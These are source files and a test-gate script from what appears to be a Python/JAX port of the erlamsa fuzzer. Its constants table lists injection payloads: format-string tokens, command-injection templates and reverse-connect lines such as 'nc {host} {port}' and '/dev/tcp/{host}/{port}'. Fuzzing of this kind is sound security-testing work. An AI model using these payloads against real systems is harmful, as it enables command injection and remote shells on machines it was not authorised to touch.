        """Random element; [] -> [] (erlamsa_rnd.erl:147-151)."""
        if not lst:
            return []
        return lst[self.uniform_n(len(lst)) - 1]

    def random_block(self, n: int) -> bytes:
        """N random bytes. The reference builds the list back-to-front
        (erlamsa_rnd.erl:172-174): the LAST byte is drawn first — so the
        block is the draw sequence reversed. Each byte is the scalar
        rand(256) = trunc(uniform()*256), vectorized over one
        uniform_block."""
        if n <= 0:
            return b""
        vals = (self.uniform_block(n) * 256).astype(np.int64)
        return bytes(vals.astype(np.uint8)[::-1])

    def fast_pseudorandom_block(self, n: int) -> bytes:
        """>=500KB blocks are mostly constant padding (erlamsa_rnd.erl:154-160).

        The reference writes ``<<42:(N-500000)>>`` — an (N-500000)-BIT zero
        field ending in 42 — ahead of 500000 random bytes; we keep the
        observable "zeros then 42 then random" shape, byte-aligned.
        """
        if n < ABSMAXHALF_BINARY_BLOCK:
            return self.random_block(n)
        blk = self.random_block(ABSMAXHALF_BINARY_BLOCK)
        pad_bits = n - ABSMAXHALF_BINARY_BLOCK
        pad_bytes = pad_bits // 8
        if pad_bytes <= 0:
            return blk
        return b"\x00" * (pad_bytes - 1) + b"\x2a" + blk

    def random_bitstring(self, bits: int) -> int:
        return self.rand_range(0, round(math.pow(2, bits)))

    def random_numbers(self, bound: int, cnt: int) -> list[int]:
        """cnt draws of rand(bound), list in REVERSE generation order
        (erlamsa_rnd.erl:177-183)."""
        acc = [self.rand(bound) for _ in range(cnt)]
        return acc[::-1]

    def random_permutation(self, lst: list) -> list:
        """Key-sort shuffle; forced coin-flip swap for 2 elements
        (erlamsa_rnd.erl:189-196)."""
        if len(lst) == 2:
            if self.rand(2) == 1:
                return [lst[1], lst[0]]
            return list(lst)
        keyed = [(self.uniform(), x) for x in lst]
        keyed.sort(key=lambda p: p[0])
        return [x for _, x in keyed]

    def reservoir_sample(self, ll: list, k: int) -> list:
        """Classic reservoir sampling (erlamsa_rnd.erl:200-214)."""
        n = len(ll)
        if k >= n:
            return list(ll)
        r = list(ll[:k])
        for i in range(k + 1, n + 1):
            j = self.erand(i)
            if j <= k:
                r[j - 1] = ll[i - 1]
        return r

    def rand_delta(self) -> int:
        """+1 / -1 (erlamsa_rnd.erl:223-231)."""
        return 1 if self.rand_bit() == 0 else -1

    def rand_delta_up(self) -> int:
        """+1 with slight positive bias (erlamsa_rnd.erl:234-242)."""
        occ = self.rand_occurs_fixed(_P_WEAKLY_USUALLY_NOM, _P_WEAKLY_USUALLY_DENOM)
        return 1 if occ else -1

    # --- genfuzz helpers (erlamsa_rnd.erl:248-261) --------------------

    def rbyte(self) -> bytes:
        return self.random_block(1)

    def rword(self) -> bytes:
        return self.random_block(2)

    def rdword(self) -> bytes:
        return self.random_block(4)

    def rddword(self) -> bytes:
        return self.random_block(8)

    def rand_repeat(self, num: int, fun: Callable[[], Any]) -> list:
        return [fun() for _ in range(num)]


def gen_urandom_seed() -> tuple[int, int, int]:
    """Entropy-derived seed triple (erlamsa_rnd.erl:50-62)."""
    import os

    def word() -> int:
        # lint: no-wallclock-nondeterminism-ok entropy mints the run seed; everything downstream is pure in it
        b = os.urandom(2)
        return b[1] + (b[0] << 8)

    return (word(), word(), word())


def seed_from_source(path: str) -> tuple[int, int, int]:
    """Seed triple from an external entropy source (file/device), the
    erlamsa_rnd_ext analogue (reference: src/erlamsa_rnd_ext.erl:84 decodes
    big-endian 16-bit words): 6 bytes -> three big-endian components."""
    try:
        with open(path, "rb") as f:
            b = f.read(6)
    except OSError as e:
        raise ValueError(f"cannot read entropy source {path!r}: {e}") from e
    if len(b) < 6:
        raise ValueError(f"entropy source {path!r} yielded fewer than 6 bytes")
    return (
        (b[0] << 8) | b[1],
        (b[2] << 8) | b[3],
        (b[4] << 8) | b[5],
    )


def parse_seed(s: str, allow_source: bool = False) -> tuple[int, int, int]:
    """Parse a seed: 'a,b,c', or 'source:PATH' (external entropy) when
    allow_source is set. Source seeds are CLI-ONLY — service endpoints must
    never accept them, or any HTTP client could make the server open
    arbitrary local files (the reference likewise only takes source: from
    the command line, src/erlamsa_cmdparse.erl)."""
    if s.startswith("source:"):
        if not allow_source:
            raise ValueError("source: seeds are not allowed here")
        return seed_from_source(s[7:])
    parts = [int(x) for x in s.split(",")]
    if len(parts) != 3:
        raise ValueError(f"seed must be three comma-separated integers, got {s!r}")
    return (parts[0], parts[1], parts[2])
