"""Shared constant tables (pure Python/numpy — no JAX import) used by both
the oracle and the device kernels."""

from __future__ import annotations

import numpy as np


def encode_point(point: int) -> list[int]:
    """Codepoint -> UTF-8 bytes (erlamsa_mutations.erl:1034-1049)."""
    ext = lambda n: (n & 0x3F) | 0x80
    if point < 0x80:
        return [point]
    if point < 0x800:
        return [0xC0 | (0x1F & (point >> 6)), ext(point)]
    if point < 0x10000:
        return [0xE0 | (0x0F & (point >> 12)), ext(point >> 6), ext(point)]
    return [
        0xF0 | (0x7 & (point >> 18)),
        ext(point >> 12),
        ext(point >> 6),
        ext(point),
    ]


def funny_unicode() -> list[list[int]]:
    """The "funny unicode" sequences in the reference's list order
    (erlamsa_mutations.erl:1054-1078): manual entries, then encoded
    codepoints built by a fold that prepends (so Codes order reverses, with
    ranges expanded in ascending order)."""
    manual = [
        [239, 191, 191],
        [240, 144, 128, 128],
        [0xEF, 0xBB, 0xBF],
        [0xFE, 0xFF],
        [0xFF, 0xFE],
        [0, 0, 0xFF, 0xFF],
        [0xFF, 0xFF, 0, 0],
        [43, 47, 118, 56],
        [43, 47, 118, 57],
        [43, 47, 118, 43],
        [43, 47, 118, 47],
        [247, 100, 76],
        [221, 115, 102, 115],
        [14, 254, 255],
        [251, 238, 40],
        [251, 238, 40, 255],
        [132, 49, 149, 51],
    ]
    codes = [
        [0x0009, 0x000D], 0x008D, 0x00A0, 0x1680, 0x180E,
        [0x2000, 0x200A], 0x2028, 0x2029, 0x202F, 0x205F,
        0x3000, [0x200E, 0x200F], [0x202A, 0x202E],
        [0x200C, 0x200D], 0x0345, 0x00B7, [0x02D0, 0x02D1],
        0xFF70, [0x02B0, 0x02B8], 0xFDD0, 0x034F,
        [0x115F, 0x1160], [0x2065, 0x2069], 0x3164, 0xFFA0,
        0xE0001, [0xE0020, 0xE007F],
        [0x0E40, 0x0E44], 0x1F4A9,
    ]
    numbers: list[int] = []
    for c in codes:
        if isinstance(c, list):
            numbers = list(range(c[0], c[1] + 1)) + numbers
        else:
            numbers.insert(0, c)
    return manual + [encode_point(x) for x in numbers]


def funny_unicode_np() -> tuple[np.ndarray, np.ndarray]:
    """Padded table + lengths for the device kernel."""
    seqs = funny_unicode()
    maxlen = max(len(s) for s in seqs)
    table = np.zeros((len(seqs), maxlen), dtype=np.uint8)
    lens = np.empty(len(seqs), dtype=np.int32)
    for i, s in enumerate(seqs):
        table[i, : len(s)] = s
        lens[i] = len(s)
    return table, lens


def interesting_numbers() -> list[int]:
    """2^k +/- 1 family in the reference's fold order
    (erlamsa_mutations.erl:67-75): foldl prepending [X-1, X, X+1 | Acc]."""
    acc: list[int] = []
    for k in [1, 7, 8, 15, 16, 31, 32, 63, 64, 127, 128]:
        x = 1 << k
        acc = [x - 1, x, x + 1] + acc
    return acc


SILLY_STRINGS = [
    "%n", "%n", "%s", "%d", "%p", "%#x", "\x00", "aaaa%d%n",
    "\n", "\r", "\t", "\x08",
]

DELIMETERS = [
    "'", '"', "'", '"', "'", '"', "&", ":", "|", ";",
    "\\", "\n", "\r", "\t", " ", "`", "\x00", "]", "[", ">", "<",
]

SHELL_INJECTS = [
    "';{};'", '";{};"', ";{};", "|{}#",
    "^ {} ^", "& {} &", "&& {} &&", "|| {} ||",
    "%0D{}%0D", "`{}`",
]

REV_CONNECTS = [
    "calc.exe & notepad.exe {host} {port} ", "nc {host} {port}",
    "wget http://{host}:{port}", "curl {host} {port}",
    "exec 3<>/dev/tcp/{host}/{port}", "sleep 100000 # {host} {port} ",
    "echo>/tmp/erlamsa.{host}.{port}",
]
