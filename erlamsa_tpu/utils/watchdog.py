"""Per-case watchdog: survive hung cases and writers.

Reference: each fuzzing case runs in a killable Erlang process that the
main loop abandons after MaxRunningTime (src/erlamsa_main.erl:211-220),
and the service-side fuzzing supervisor reaps stuck fuzzing processes
older than that budget (src/erlamsa_fsupervisor.erl:96-105). Python
threads can't be killed, so the equivalent contract here is *abandonment*:
the hung call keeps its daemon thread (it is almost always blocked on IO —
a dead socket writer, a wedged exec target), the caller gets CaseTimeout
and the run continues.

Known limit vs the reference's process kill: an abandoned WRITER that
later unblocks may still flush its bytes, which can interleave with later
cases on single-stream outputs (stdout, one TCP connection). Per-case
outputs (file %n templates, per-request FaaS replies) are unaffected, and
`-w N` worker *processes* give the reference's full isolation. Oracle
PRNG state is safe either way — Ctx.r is thread-local.
"""

from __future__ import annotations

import threading


class CaseTimeout(Exception):
    """A case/writer exceeded its max running time and was abandoned."""


def run_with_timeout(fn, timeout: float, /, *args, **kwargs):
    """Run fn(*args, **kwargs) with a wall-clock budget. timeout <= 0 or
    None means no budget (direct call). Raises CaseTimeout on expiry;
    otherwise returns/raises exactly what fn did."""
    if not timeout or timeout <= 0:
        return fn(*args, **kwargs)
    box: dict = {}
    done = threading.Event()

    def target():
        try:
            box["result"] = fn(*args, **kwargs)
        except BaseException as e:  # lint: broad-except-ok re-raised in the caller below
            box["error"] = e
        finally:
            done.set()

    t = threading.Thread(target=target, daemon=True)
    t.start()
    if not done.wait(timeout):
        raise CaseTimeout(f"abandoned after {timeout}s: {fn!r}")
    if "error" in box:
        raise box["error"]
    return box.get("result")
