"""Byte-stream helpers shared by oracle and host shell.

Mirrors erlamsa_utils.erl where behavior matters for parity.
"""

from __future__ import annotations

from ..constants import AVG_BLOCK_SIZE


def binarish(data: bytes) -> bool:
    """Quick peek whether data looks binary: NUL or high bit in the first 8
    bytes, except UTF BOMs (reference: src/erlamsa_utils.erl:237-247).

    The reference's BOM clauses are re-tried at every recursion step, so a
    BOM at any offset < 8 also classifies as text. Note it checks
    ``<<16#FE, 16#F, ...>>`` (0xFE 0x0F) for the "UTF-16 BOM" — a typo for
    0xFF, kept for parity.
    """
    for i in range(len(data) + 1):
        rest = data[i:]
        if rest.startswith(b"\xef\xbb\xbf") or rest.startswith(b"\xfe\x0f"):
            return False
        if i >= 8 or not rest:
            return False
        b = rest[0]
        if b == 0 or b & 0x80:
            return True
    return False


def flush_bvecs(data: bytes, tail: list[bytes]) -> list[bytes]:
    """Re-split an oversized block into AVG_BLOCK_SIZE chunks ahead of tail
    (reference: src/erlamsa_utils.erl:168-175)."""
    out: list[bytes] = []
    while len(data) >= AVG_BLOCK_SIZE:
        out.append(data[:AVG_BLOCK_SIZE])
        data = data[AVG_BLOCK_SIZE:]
    out.append(data)
    return out + list(tail)


def halve(lst: bytes | list) -> tuple:
    """Split into two halves; for odd length the SECOND half gets the extra
    element, i.e. len(a) = floor(n/2), matching list_halves_walk
    (reference: src/erlamsa_utils.erl:133-146)."""
    n = len(lst)
    a = n // 2
    return lst[:a], lst[a:]


def merge(a: bytes | None, b: bytes) -> bytes:
    if not a:
        return b
    return a + b


def applynth(i: int, lst: list, fun) -> list:
    """1-indexed splice: fun(elem, rest) -> new rest of list
    (reference: src/erlamsa_utils.erl:191-192)."""
    return lst[: i - 1] + fun(lst[i - 1], lst[i:])


def hexstr_to_bin(s: str) -> bytes:
    if len(s) % 2:
        s += "0"
    return bytes.fromhex(s)


def bin_to_hexstr(b: bytes) -> str:
    return b.hex().upper()
