#!/usr/bin/env bash
# Tier-1 gate: the exact command from ROADMAP.md ("Tier-1 verify").
# Fast tests only (-m 'not slow'); slow-marked tests (device-engine
# compiles, end-to-end corpus runs) live behind `pytest -m slow`.
# Run from the repo root: scripts/tier1.sh
#
# scripts/tier1.sh --bench-smoke additionally runs one tiny pipelined
# corpus batch (async pipeline, 2 cases) after the tests — a cheap
# end-to-end check that the double-buffered runner dispatches, drains
# and reports throughput without needing the full bench.py harness.
#
# scripts/tier1.sh --chaos-smoke additionally runs a tiny corpus batch
# twice — clean, then under an injected dist-failure + store-failure
# spec (ERLAMSA_FAULTS="dist.send:x2,store.save:x1") — and asserts the
# two output streams are byte-identical: transparent faults must be
# absorbed by retries, never reach the data path (services/chaos.py).
#
# scripts/tier1.sh --obs-smoke additionally runs a tiny traced corpus
# batch with the standalone metrics exporter up, then validates BOTH
# observability artifacts: the --trace file must be well-formed Chrome
# trace JSON with corpus spans, and a live GET /metrics scrape must
# serve Prometheus text with throughput counters and latency histogram
# buckets (erlamsa_tpu/obs). A second leg (r18) runs a two-loopback-
# worker fleet campaign three times — telemetry dark, tracing +
# federation on, and with the shard_telemetry exchange chaos-dropped
# (ERLAMSA_FAULTS="obs.telemetry:*") — and asserts the telemetry plane
# is strictly out-of-band: all three byte-identical, the lit leg's
# merged trace parents worker shard.step spans under coordinator
# fleet.case spans, /metrics grows erlamsa_worker_*{node=...} families
# for BOTH nodes, the campaign report's stage ledger is populated, and
# the chaos leg counts telemetry_lost (obs/federate.py, obs/report.py).
#
# scripts/tier1.sh --arena-smoke additionally runs a tiny MIXED-SIZE
# corpus batch (two capacity classes) under BOTH memory layouts
# (--layout buckets|arena) with device-resident offspring adoption
# enabled, and asserts the ragged-arena contract: byte-identical output
# streams, exactly the two class widths among the arena run's compiled
# step shapes, zero padded bytes wasted, fewer bytes uploaded than the
# buckets run, and at least one offspring adopted device-side
# (corpus/arena.py + ops/paged.py).
#
# scripts/tier1.sh --fleet-smoke additionally runs a tiny corpus batch
# through the sharded fleet (corpus/fleet.py) three times on the CPU
# host — 1 shard, 2 shards, and 2 shards with one injected shard kill
# (ERLAMSA_FAULTS="shard.step:x1") — and asserts the fleet contract:
# all three output streams byte-identical (PRNG streams key on the
# GLOBAL slot, so shard count and migration never change bytes), the
# kill redistributed within the case (no host-oracle fallback), and the
# revoke/readmit migrations landed in the run stats.
#
# scripts/tier1.sh --dist-fleet-smoke additionally runs the cross-host
# fleet end to end on loopback: two shard workers
# (services/dist.run_shard_worker) serve a 2-shard remote campaign over
# framed streams that must be byte-identical to the all-local run at
# the same seed; one worker is killed mid-campaign (the lease revokes,
# the slice redispatches to the survivor within the case); a
# checkpointed campaign is "killed" at the coordinator half-way and
# resumed from --state; and the same campaign re-runs at
# --fleet-window 4 — still byte-identical, with the awaited round
# trips bounded by shards*(ceil(cases/W)+3) (corpus/fleet.py,
# services/dist.py, services/checkpoint.py).
#
# scripts/tier1.sh --spmd-smoke additionally runs the r19 fused fleet
# on a FORCED 8-device CPU board (a subprocess under
# XLA_FLAGS=--xla_force_host_platform_device_count=8): one corpus
# campaign three ways — single-device runner, classic 8-shard fleet,
# and --spmd (one shard_map-compiled gather→mutate→score→reduce
# program over the whole board) — and asserts the r19 contract: all
# three byte-identical, exactly ONE fused dispatch per (case,
# capacity class) with ONE compiled program (the compile-count probe:
# parallel/spmd.py STATS), and zero per-shard fallbacks.
#
# scripts/tier1.sh --serve-smoke additionally boots the faas server
# with the continuous-batching engine (services/serving.py), checks one
# request answers byte-identically to a flush-mode server at the same
# seed (the cross-mode determinism pin), then fires 200 concurrent
# requests and asserts zero errors and zero request-path compiles.
#
# scripts/tier1.sh --struct-smoke additionally runs one full-set batch
# over a structured corpus (JSON/XML/base64/URI seeds) twice — --struct
# host (the numpy span-oracle) and --struct device (the vmapped
# tree-splice kernels, ops/tree_mutators.py) — at the same seed, and
# asserts the r13 struct-engine contract: byte-identical output
# streams, struct rows actually resident on device, and the device
# run's host-routed tail restricted to {zip, overflow} (with
# --struct-kernels at most one of the 38 reference codes may still
# route to the host).
#
# scripts/tier1.sh --monitor-smoke additionally exercises the r16
# monitor plane end to end on loopback: an in-process CoverageHub
# receives deterministic pre-buffered edge-bitmap frames and the
# coverage-gated run must adopt differently from the hash-novelty
# baseline (genuinely-new edges admit, zero-gain slots do not) and
# distill subsumed seeds; then the same campaign under an injected
# monitor.ingest fault storm (the hub's breaker opens, the plane is
# dead before case 0) must complete DEGRADED with output bytes
# identical to the coverage-off baseline; finally an ExecMonitor stub
# must land an abnormal-exit finding on the feedback bus through the
# supervised plane (services/monitors.py, corpus/distill.py).
#
# scripts/tier1.sh --gen-smoke additionally exercises the r17 device
# grammar-generation subsystem (gen/ + ops/grammar.py): the expansion
# kernel must be byte-identical to the keyed host oracle at a fixed
# seed for every builtin grammar in both plain and fuzzing modes; a
# generate-then-mutate campaign (--gen seeds into the arena with
# adoption on) must run with zero host expansions on the hot path; and
# the same campaign under an injected gen.expand fault must degrade to
# the host oracle with output bytes identical to the unfaulted run.
#
# scripts/tier1.sh --churn-smoke additionally exercises the r20
# elastic-membership plane end to end on loopback: a static local
# 2-shard campaign is the byte reference; the same campaign then runs
# against one CLI worker subprocess named at launch plus one vacant
# --fleet-expect slot filled MID-CAMPAIGN by a second worker subprocess
# hot-joining over --fleet-join/--fleet-accept, while the first worker
# is SIGTERMed mid-run and must drain gracefully (exit 0, zero slice
# rewinds, a membership ledger recording both the join and the drain) —
# with output bytes and the final corpus store byte-identical to the
# static reference (corpus/fleet.py, services/dist.py).
#
# The gate starts with fuzzlint (erlamsa_tpu/analysis): pure-AST
# invariant checks (determinism, device purity, lock discipline,
# resilience coverage) over the whole package in ~2s. Opt out with
# --no-lint (e.g. while iterating on a known-dirty tree).
set -o pipefail

bench_smoke=0
chaos_smoke=0
obs_smoke=0
arena_smoke=0
fleet_smoke=0
dist_fleet_smoke=0
spmd_smoke=0
serve_smoke=0
struct_smoke=0
monitor_smoke=0
gen_smoke=0
churn_smoke=0
lint=1
while [ $# -gt 0 ]; do
  case "$1" in
    --bench-smoke) bench_smoke=1; shift ;;
    --monitor-smoke) monitor_smoke=1; shift ;;
    --chaos-smoke) chaos_smoke=1; shift ;;
    --obs-smoke) obs_smoke=1; shift ;;
    --arena-smoke) arena_smoke=1; shift ;;
    --fleet-smoke) fleet_smoke=1; shift ;;
    --dist-fleet-smoke) dist_fleet_smoke=1; shift ;;
    --spmd-smoke) spmd_smoke=1; shift ;;
    --serve-smoke) serve_smoke=1; shift ;;
    --struct-smoke) struct_smoke=1; shift ;;
    --gen-smoke) gen_smoke=1; shift ;;
    --churn-smoke) churn_smoke=1; shift ;;
    --lint) lint=1; shift ;;
    --no-lint) lint=0; shift ;;
    *) break ;;
  esac
done

if [ $lint -eq 1 ]; then
  echo "== fuzzlint: static invariant checks =="
  timeout -k 5 60 python -m erlamsa_tpu.analysis.lint erlamsa_tpu/
  lint_rc=$?
  echo LINT_CLEAN=$([ $lint_rc -eq 0 ] && echo 1 || echo 0)
  if [ $lint_rc -ne 0 ]; then
    exit $lint_rc
  fi
fi

rm -f /tmp/_t1.log
timeout -k 10 870 env JAX_PLATFORMS=cpu python -m pytest tests/ -q \
  -m 'not slow' --continue-on-collection-errors \
  -p no:cacheprovider -p no:xdist -p no:randomly 2>&1 | tee /tmp/_t1.log
rc=${PIPESTATUS[0]}
echo DOTS_PASSED=$(grep -aE '^[.FEsx]+( *\[ *[0-9]+%\])?$' /tmp/_t1.log | tr -cd . | wc -c)

if [ $rc -eq 0 ] && [ $bench_smoke -eq 1 ]; then
  echo "== bench smoke: tiny pipelined corpus batch =="
  timeout -k 10 600 env JAX_PLATFORMS=cpu python - <<'EOF'
import os, shutil, sys, tempfile

from erlamsa_tpu.corpus.runner import run_corpus_batch

stats = {}
tmpdir = tempfile.mkdtemp(prefix="tier1_bench_smoke_")
try:
    rc = run_corpus_batch(
        {
            "corpus_dir": tmpdir,
            "corpus": [bytes([65 + i]) * (40 * (i + 1)) for i in range(6)],
            "feedback": True,
            "seed": (1, 2, 3),
            "n": 2,
            "output": os.devnull,
            "_stats": stats,
            "pipeline": "async",
        },
        batch=8,
    )
finally:
    shutil.rmtree(tmpdir, ignore_errors=True)
ok = rc == 0 and stats.get("pipeline") == "async" and stats.get("total", 0) > 0
print(f"BENCH_SMOKE={'ok' if ok else 'FAIL'} "
      f"total={stats.get('total')} pipeline={stats.get('pipeline')}")
sys.exit(0 if ok else 1)
EOF
  rc=$?
fi

if [ $rc -eq 0 ] && [ $chaos_smoke -eq 1 ]; then
  echo "== chaos smoke: transparent faults must be byte-identical =="
  timeout -k 10 600 env JAX_PLATFORMS=cpu python - <<'EOF'
import os, shutil, sys, tempfile

from erlamsa_tpu.corpus.runner import run_corpus_batch
from erlamsa_tpu.services import chaos, metrics

SEEDS = [b"hello resilience", b"foo bar baz qux", b"the quick brown fox"]


def one_run(root, spec):
    chaos.configure(spec, seed=42)
    outdir = os.path.join(root, "out")
    os.makedirs(outdir)
    rc = run_corpus_batch(
        {
            "corpus_dir": os.path.join(root, "corpus"),
            "corpus": SEEDS,
            "feedback": True,
            "seed": (42, 42, 42),
            "n": 4,
            "output": os.path.join(outdir, "%n.out"),
            "pipeline": "async",
        },
        batch=8,
    )
    chaos.configure(None)
    blob = b""
    for f in sorted(os.listdir(outdir), key=lambda s: int(s.split(".")[0])):
        blob += open(os.path.join(outdir, f), "rb").read()
    return rc, blob


root = tempfile.mkdtemp(prefix="tier1_chaos_smoke_")
try:
    rc1, clean = one_run(os.path.join(root, "clean"), None)
    rc2, faulted = one_run(os.path.join(root, "faulted"),
                           "dist.send:x2,store.save:x1")
finally:
    shutil.rmtree(root, ignore_errors=True)
events = metrics.GLOBAL.snapshot()["resilience"]["events"]
ok = (rc1 == rc2 == 0 and clean and faulted == clean
      and events.get("retry:store.save", 0) >= 1)
print(f"CHAOS_SMOKE={'ok' if ok else 'FAIL'} bytes={len(clean)} "
      f"identical={faulted == clean} "
      f"store_retries={events.get('retry:store.save', 0)}")
sys.exit(0 if ok else 1)
EOF
  rc=$?
fi

if [ $rc -eq 0 ] && [ $arena_smoke -eq 1 ]; then
  echo "== arena smoke: ragged paged layout must match buckets byte-for-byte =="
  timeout -k 10 600 env JAX_PLATFORMS=cpu python - <<'EOF'
import os, shutil, sys, tempfile

from erlamsa_tpu.corpus.runner import run_corpus_batch
from erlamsa_tpu.services import metrics

# mixed LENGTHS spanning TWO capacity classes (256B and 1KB): the
# ragged arena derives its classes from the stored seed sizes, so each
# seed rides a step at exactly its bucket capacity and arena==buckets
# byte-identity is the pinned contract (README). Adoption is on for
# BOTH runs (the adoption decision is layout-independent) so the arena
# leg also exercises device-resident offspring.
SEEDS = [bytes([65 + i]) * (20 * (i + 1)) for i in range(6)] \
    + [b"\x81" * 300, b"\x82" * 420]


def one_run(root, layout):
    outdir = os.path.join(root, "out")
    os.makedirs(outdir)
    stats = {}
    rc = run_corpus_batch(
        {
            "corpus_dir": os.path.join(root, "corpus"),
            "corpus": SEEDS,
            "feedback": True,
            "seed": (9, 9, 9),
            "n": 3,
            "output": os.path.join(outdir, "%n.out"),
            "pipeline": "async",
            "layout": layout,
            "adopt": True,
            "_stats": stats,
        },
        batch=8,
    )
    blob = b""
    for f in sorted(os.listdir(outdir), key=lambda s: int(s.split(".")[0])):
        blob += open(os.path.join(outdir, f), "rb").read()
    return rc, blob, stats


root = tempfile.mkdtemp(prefix="tier1_arena_smoke_")
try:
    rc_b, blob_b, st_b = one_run(os.path.join(root, "buckets"), "buckets")
    rc_a, blob_a, st_a = one_run(os.path.join(root, "arena"), "arena")
finally:
    shutil.rmtree(root, ignore_errors=True)
waste = sum(b["padded_bytes_wasted"] for b in st_a["buckets"].values())
widths = sorted({w for (_, w, _) in st_a["step_shapes"]})
arena_snap = metrics.GLOBAL.snapshot().get("arena") or {}
adopted = arena_snap.get("adopted", 0)
ok = (rc_b == rc_a == 0 and blob_b and blob_a == blob_b
      and widths == [256, 1024] and waste == 0
      and st_a["bytes_uploaded"] < st_b["bytes_uploaded"]
      and st_a["offspring"] > 0 and adopted > 0)
print(f"ARENA_SMOKE={'ok' if ok else 'FAIL'} identical={blob_a == blob_b} "
      f"class_widths={widths} padded_waste={waste} "
      f"upload_bytes={st_a['bytes_uploaded']}/{st_b['bytes_uploaded']} "
      f"offspring={st_a['offspring']} device_adopted={adopted}")
sys.exit(0 if ok else 1)
EOF
  rc=$?
fi

if [ $rc -eq 0 ] && [ $obs_smoke -eq 1 ]; then
  echo "== obs smoke: trace artifact + /metrics scrape =="
  timeout -k 10 600 env JAX_PLATFORMS=cpu python - <<'EOF'
import json, os, shutil, socket, sys, tempfile, urllib.request

from erlamsa_tpu.corpus.runner import run_corpus_batch
from erlamsa_tpu.obs import prom, trace

s = socket.socket()
s.bind(("127.0.0.1", 0))
port = s.getsockname()[1]
s.close()
prom.serve_metrics(port, host="127.0.0.1")

tmpdir = tempfile.mkdtemp(prefix="tier1_obs_smoke_")
trace_file = os.path.join(tmpdir, "trace.json")
try:
    trace.configure(path=trace_file)
    rc = run_corpus_batch(
        {
            "corpus_dir": os.path.join(tmpdir, "corpus"),
            "corpus": [bytes([65 + i]) * (40 * (i + 1)) for i in range(6)],
            "feedback": True,
            "seed": (1, 2, 3),
            "n": 2,
            "output": os.devnull,
            "pipeline": "async",
        },
        batch=8,
    )
    trace.export()
    doc = json.load(open(trace_file))
    xev = [e for e in doc["traceEvents"] if e.get("ph") == "X"]
    trace_ok = (rc == 0 and xev
                and all(k in e for k in ("name", "ts", "dur", "pid", "tid")
                        for e in xev)
                and any(e["name"].startswith("corpus.") for e in xev))
    body = urllib.request.urlopen(
        f"http://127.0.0.1:{port}/metrics", timeout=10).read().decode()
    prom_ok = ("erlamsa_samples_total" in body
               and "erlamsa_batch_latency_seconds_bucket" in body
               and 'le="+Inf"' in body)
finally:
    shutil.rmtree(tmpdir, ignore_errors=True)
ok = trace_ok and prom_ok
print(f"OBS_SMOKE={'ok' if ok else 'FAIL'} trace_events={len(xev)} "
      f"trace_ok={trace_ok} prom_ok={prom_ok}")
sys.exit(0 if ok else 1)
EOF
  rc=$?
fi

if [ $rc -eq 0 ] && [ $obs_smoke -eq 1 ]; then
  echo "== obs smoke: fleet telemetry plane is strictly out-of-band =="
  timeout -k 10 600 env JAX_PLATFORMS=cpu python - <<'EOF2'
import json, os, shutil, sys, tempfile

from erlamsa_tpu.corpus.fleet import run_corpus_fleet
from erlamsa_tpu.obs import federate, prom, report, trace
from erlamsa_tpu.services import chaos, metrics
from erlamsa_tpu.services.dist import ParentServer

SEED = (7, 7, 7)
# lengths chosen so seed home partitions split 3/3 across two shards:
# both workers must do real work or the federation check is vacuous
SEEDS = [b"A" * ln for ln in (30, 60, 90, 120, 150, 180)]


def one_run(root, tag, nodes, spec=None):
    chaos.configure(spec, seed=SEED[0])
    outdir = os.path.join(root, f"out-{tag}")
    os.makedirs(outdir, exist_ok=True)
    stats = {}
    opts = {
        "corpus_dir": os.path.join(root, f"corpus-{tag}"),
        "corpus": list(SEEDS),
        "seed": SEED,
        "n": 2,
        "output": os.path.join(outdir, "%n.out"),
        "shards": None,
        "fleet_nodes": nodes,
        "_stats": stats,
    }
    try:
        rc = run_corpus_fleet(opts, batch=8)
    finally:
        chaos.configure(None)
    blob = b""
    for i in range(2 * 8):
        blob += open(os.path.join(outdir, f"{i}.out"), "rb").read()
    return rc, blob, stats


srv1 = ParentServer(0, {"seed": SEED}).serve(block=False)
srv2 = ParentServer(0, {"seed": SEED}).serve(block=False)
nodes = [f"127.0.0.1:{srv._srv.getsockname()[1]}" for srv in (srv1, srv2)]
root = tempfile.mkdtemp(prefix="tier1_obs_fleet_smoke_")
trace_file = os.path.join(root, "fleet-trace.json")
try:
    # 1. telemetry dark: the byte reference
    rc1, ref, _ = one_run(root, "dark", nodes)
    # 2. tracing + federation on: bytes must not move
    trace.configure(path=trace_file, trace_id="tsmoke")
    rc2, lit, _ = one_run(root, "lit", nodes)
    trace.export()
    trace.configure()
    doc = json.load(open(trace_file))
    xev = [e for e in doc["traceEvents"] if e.get("ph") == "X"]
    cases = {e["args"]["span_id"] for e in xev if e["name"] == "fleet.case"}
    steps = [e for e in xev if e["name"] == "shard.step"]
    parented = bool(steps) and all(
        e["args"]["parent_id"] in cases for e in steps)
    fed = federate.GLOBAL.snapshot()
    page = prom.render(metrics.Counters())
    federated = (set(fed["nodes"]) == set(nodes) and all(
        f'erlamsa_worker_samples_total{{node="{n}"}}' in page
        for n in nodes))
    ledger = report.build_report(
        metrics_snap=metrics.GLOBAL.snapshot(),
        trace_doc=doc, federation_snap=fed)["stages"]["ledger"]
    # 3. shard_telemetry chaos-dropped: bytes still must not move
    federate.GLOBAL.reset()
    lost0 = metrics.GLOBAL.event_counts().get("telemetry_lost", 0)
    rc3, dropped, _ = one_run(root, "chaos", nodes, spec="obs.telemetry:*")
    lost = metrics.GLOBAL.event_counts().get("telemetry_lost", 0) - lost0
finally:
    srv1.stop()
    srv2.stop()
    shutil.rmtree(root, ignore_errors=True)
ok = (rc1 == rc2 == rc3 == 0 and ref
      and lit == ref and dropped == ref
      and parented and federated and ledger
      and lost >= 1 and not federate.GLOBAL.nodes())
print(f"OBS_FLEET_SMOKE={'ok' if ok else 'FAIL'} bytes={len(ref)} "
      f"identical_traced={lit == ref} identical_dropped={dropped == ref} "
      f"worker_steps={len(steps)} parented={parented} "
      f"federated={federated} ledger_rows={len(ledger)} "
      f"telemetry_lost={lost}")
sys.exit(0 if ok else 1)
EOF2
  rc=$?
fi

if [ $rc -eq 0 ] && [ $fleet_smoke -eq 1 ]; then
  echo "== fleet smoke: shard-count identity + injected shard kill =="
  timeout -k 10 600 env JAX_PLATFORMS=cpu python - <<'EOF2'
import os, shutil, sys, tempfile

from erlamsa_tpu.corpus.runner import run_corpus_batch
from erlamsa_tpu.services import chaos

SEEDS = [bytes([65 + i]) * (30 * (i + 1)) for i in range(6)]


def one_run(root, shards, spec=None):
    chaos.configure(spec, seed=7)
    outdir = os.path.join(root, "out")
    os.makedirs(outdir)
    stats = {}
    rc = run_corpus_batch(
        {
            "corpus_dir": os.path.join(root, "corpus"),
            "corpus": SEEDS,
            "feedback": True,
